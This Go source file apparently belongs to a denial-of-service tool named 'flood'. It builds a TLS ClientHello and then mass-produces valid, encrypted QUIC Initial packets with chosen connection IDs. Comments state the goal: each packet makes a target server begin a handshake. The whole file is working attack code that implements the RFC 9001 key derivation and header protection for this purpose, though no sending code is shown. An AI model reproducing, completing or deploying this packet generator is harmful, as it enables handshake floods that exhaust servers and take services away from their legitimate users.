package flood

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
)

const (
	initialSize = 1200 // octets of a datagram with an Initial (RFC 9000 §14.1)
	idLen       = 8    // of the destination connection IDs
	tagLen      = 16
	numberLen   = 2 // octets of the packet number
)

// sourceID is the connection ID that the flood's clients want answers to.
var sourceID = []byte("flood")

// initials makes Initial packets that are all valid: a server that does not know better begins a handshake for each.
type initials struct {
	hello []byte // the TLS ClientHello
}

// newInitials makes a ClientHello for a server of that name, of one datagram's length.
func newInitials(ctx context.Context, name string) (*initials, error) {
	c := tls.QUICClient(&tls.QUICConfig{TLSConfig: &tls.Config{ServerName: name, NextProtos: []string{"h3"}, MinVersion: tls.VersionTLS13,
		CurvePreferences: []tls.CurveID{tls.X25519}}})
	defer c.Close()
	c.SetTransportParameters(transportParameters())
	if err := c.Start(ctx); err != nil {
		return nil, err
	}
	in := &initials{}
	for e := c.NextEvent(); e.Kind != tls.QUICNoEvent; e = c.NextEvent() {
		if e.Kind == tls.QUICWriteData {
			in.hello = append(in.hello, e.Data...)
		}
	}
	if n := len(in.hello); n == 0 || n > 1000 {
		return nil, fmt.Errorf("a ClientHello of %d bytes does not fit", n)
	}
	return in, nil
}

// transportParameters are those of a client that may be sent something (RFC 9000 §18.2).
func transportParameters() (b []byte) {
	b = append(b, 0x0f, byte(len(sourceID))) // initial_source_connection_id
	b = append(b, sourceID...)
	for id := byte(0x04); id <= 0x07; id++ { // initial_max_data, initial_max_stream_data_*
		b = append(b, id, 4)
		b = binary.BigEndian.AppendUint32(b, 0x80000000|1<<20)
	}
	return append(b, 0x08, 1, 16, 0x09, 1, 16) // initial_max_streams_*
}

// make writes the Initial for a connection ID over b, which must have room for it, and returns it (RFC 9000 §17.2.2).
func (in *initials) make(b []byte, id [idLen]byte) ([]byte, error) {
	b = append(b[:0], 0xc0|numberLen-1, 0, 0, 0, 1, idLen)
	b = append(b, id[:]...)
	b = append(b, byte(len(sourceID)))
	b = append(b, sourceID...)
	b = append(b, 0) // no token
	rest := initialSize - len(b) - 2
	b = binary.BigEndian.AppendUint16(b, 0x4000|uint16(rest))
	number := len(b)
	b = append(b, 0, 0)
	payload := len(b)
	b = append(b, 0x06, 0) // CRYPTO at 0
	b = binary.BigEndian.AppendUint16(b, 0x4000|uint16(len(in.hello)))
	b = append(b, in.hello...)
	for len(b) < initialSize-tagLen {
		b = append(b, 0) // PADDING
	}
	return protect(b, id, number, payload)
}

// salt is that of version 1 (RFC 9001 §5.2).
var salt = []byte{0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17, 0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a}

// protect encrypts a packet whose number is 0 (RFC 9001 §5.3, §5.4).
func protect(b []byte, id [idLen]byte, number, payload int) ([]byte, error) {
	initial, err := hkdf.Extract(sha256.New, id[:], salt)
	client, err1 := expand(initial, "client in", 32)
	key, err2 := expand(client, "quic key", 16)
	iv, err3 := expand(client, "quic iv", 12)
	hp, err4 := expand(client, "quic hp", 16)
	if err := errors.Join(err, err1, err2, err3, err4); err != nil {
		return nil, err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	b = aead.Seal(b[:payload], iv, b[payload:], b[:payload])
	mask, err := aes.NewCipher(hp)
	if err != nil {
		return nil, err
	}
	var m [aes.BlockSize]byte
	mask.Encrypt(m[:], b[number+4:number+4+aes.BlockSize])
	b[0] ^= m[0] & 0x0f
	for i := range numberLen {
		b[number+i] ^= m[1+i]
	}
	return b, nil
}

// expand is HKDF-Expand-Label of TLS 1.3 without a context (RFC 8446 §7.1).
func expand(secret []byte, label string, n int) ([]byte, error) {
	full := "tls13 " + label
	info := string([]byte{0, byte(n), byte(len(full))}) + full + "\x00"
	return hkdf.Expand(sha256.New, secret, info, n)
}
